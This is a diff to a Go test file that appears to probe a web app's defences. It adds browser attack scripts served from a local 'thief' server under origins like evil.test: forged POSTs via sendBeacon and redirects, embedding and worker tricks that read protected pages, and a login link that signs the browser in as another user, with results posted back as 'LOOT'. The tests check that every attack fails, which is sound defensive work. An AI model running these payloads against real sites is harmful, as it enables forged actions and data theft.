@@ -46,14 +46,29 @@ var attacks = []struct{ name, script string }{
 		return performance.getEntriesByType('resource').some(e => e.transferSize > 500 && e.name.startsWith(V)) ? 'LOOT sizes' : ''`},
 	{"WebSocket", `return await new Promise(r => { const w = new WebSocket(V.replace('http', 'ws') + '/events'); w.onmessage = e => r('LOOT ' + e.data); w.onopen = () => r('LOOT open'); w.onerror = () => r(''); w.onclose = () => r('') })`},
 	{"event stream", `return await new Promise(r => { const e = new EventSource(V + '/events', {withCredentials: true}); e.onmessage = e => r('LOOT ' + e.data); e.onopen = () => r('LOOT open'); e.onerror = () => { e.close(); r('') } })`},
+	{"beacon and ping", `const form = new URLSearchParams({action: 'confirm'}); navigator.sendBeacon(V + '/alerts/1/decide', form);
+		navigator.sendBeacon(V + '/data-sub/api/employee/', '{"employee_id":"EVIL"}'); fetch(V + '/alerts/1/decide', {method: 'POST', mode: 'no-cors', keepalive: true, body: form}).catch(() => 0);
+		const a = document.createElement('a'); a.href = '#'; a.ping = V + '/alerts/1/decide'; document.body.append(a); a.click(); await wait(500); return ''`},
+	{"redirect of our own", `const go = '/307?to=' + encodeURIComponent(V + '/alerts/1/decide'), o = {method: 'POST', credentials: 'include', body: new URLSearchParams({action: 'confirm'})};
+		let t = ''; for (const mode of ['cors', 'no-cors']) try { t += await (await fetch(go, {...o, mode})).text() } catch {}
+		return t + await submit(go, 'application/x-www-form-urlencoded', 'action', 'confirm', location.origin)`},
+	{"objects, styles, workers", `const all = ['<object data="@/alerts/1"></object>', '<embed src="@/alerts/1">', '<style>@import "@/alerts/1"; body { background: url(@/people/1) }</style>', '<link rel=stylesheet href="@/alerts/1">',
+		'<link rel=icon href="@/people/1">', '<video src="@/data-sub/api/employee/?format=ndjson"></video>', '<input type=image src="@/alerts/1">', '<svg><image href="@/alerts/1"/></svg>', '<iframe credentialless src="@/alerts/1"></iframe>'];
+		const d = document.createElement('div'); d.innerHTML = all.join('').replaceAll('@', V); document.body.append(d);
+		let t = ''; try { await import(V + '/data-sub/api/employee/?format=json') } catch {}
+		t += await new Promise(r => { const w = new Worker(URL.createObjectURL(new Blob(['(async () => { let t = ""; try { importScripts("' + V + '/static/app.js"); t = "LOOT script" } catch {} try { t += await (await fetch("' + V + '/alerts/1", {credentials: "include"})).text() } catch {} postMessage(t) })()'])));
+			w.onmessage = e => r(e.data); w.onerror = () => r('') });
+		await wait(300); for (const f of d.querySelectorAll('object, iframe')) t += read(f);
+		for (const s of document.styleSheets) try { t += s.href && s.cssRules.length ? 'LOOT rules' : '' } catch {} return t`},
+	{"somebody else's link", `const w = open(V + '/login?code=' + CODE); await wait(800); w?.close(); return ''`}, // signs in as vic, if it is pressed
 }
 
 const attackTools = `const wait = ms => new Promise(r => setTimeout(r, ms));
 const read = f => { try { return f.contentDocument?.body?.innerText ?? '' } catch { return '' } };
 const get = async (path, o) => { try { return await (await fetch(V + path, o)).text() } catch { return '' } };
-const submit = async (path, enctype, name, value) => {
+const submit = async (path, enctype, name, value, at = V) => {
 	const f = document.createElement('iframe'); f.name = 'x'; document.body.append(f);
-	const m = document.createElement('form'); Object.assign(m, {method: 'POST', enctype, action: V + path, target: 'x'});
+	const m = document.createElement('form'); Object.assign(m, {method: 'POST', enctype, action: at + path, target: 'x'});
 	const i = document.createElement('input'); Object.assign(i, {name, value}); m.append(i); document.body.append(m);
 	const end = new Promise(r => { f.onload = r }); m.submit(); await Promise.race([end, wait(3000)]); return read(f) };
 `
@@ -65,9 +80,13 @@ type thief struct {
 	loot map[string]string
 }
 
-func startThief(tb testing.TB, victim string) *thief {
+func startThief(tb testing.TB, victim, code string) *thief {
 	th := &thief{loot: map[string]string{}}
 	th.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if to := r.URL.Query().Get("to"); to != "" {
+			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
+			return
+		}
 		name := r.URL.Query().Get("name")
 		if r.Method == http.MethodPost {
 			b, _ := io.ReadAll(r.Body)
@@ -78,8 +97,8 @@ func startThief(tb testing.TB, victim string) *thief {
 		}
 		for _, a := range attacks {
 			if a.name == name {
-				fmt.Fprintf(w, `<!doctype html><title>at work</title><body><script>const V = %q; %s
-(async () => { %s })().catch(e => 'failed: ' + e).then(async t => { await fetch(location.href, {method: 'POST', body: String(t)}); document.title = 'done' })</script>`, victim, attackTools, a.script)
+				fmt.Fprintf(w, `<!doctype html><title>at work</title><body><script>const V = %q, CODE = %q; %s
+(async () => { %s })().catch(e => 'failed: ' + e).then(async t => { await fetch(location.href, {method: 'POST', body: String(t)}); document.title = 'done' })</script>`, victim, code, attackTools, a.script)
 			}
 		}
 	}))
@@ -137,7 +156,7 @@ func TestAttackPages(t *testing.T) {
 	p.until("signed in", `document.body.innerText.includes('LOOT1') || location.pathname === '/welcome'`)
 	p.open(s.base + "/alerts/1")
 	p.until("the analyst sees it", `document.body.innerText.includes('LOOT1')`)
-	th := startThief(t, s.base)
+	th := startThief(t, s.base, s.link("vic"))
 	port := th.URL[strings.LastIndexByte(th.URL, ':'):]
 	before := s.state()
 	for _, origin := range []string{"http://evil.test", "http://127.0.0.1"} {
@@ -157,6 +176,9 @@ func TestAttackPages(t *testing.T) {
 				t.Errorf("%s from %s never reached the server, so it proves nothing", name, origin)
 			}
 		}
+	}
+	if list, err := s.db.Sessions(t.Context(), store.Actor{ID: 3}); err != nil || len(list) > 0 {
+		t.Errorf("a page signed the browser in as somebody else: %v, %v", list, err)
 	}
 	rebinding(t, p, s)
 	if after := s.state(); after != before {
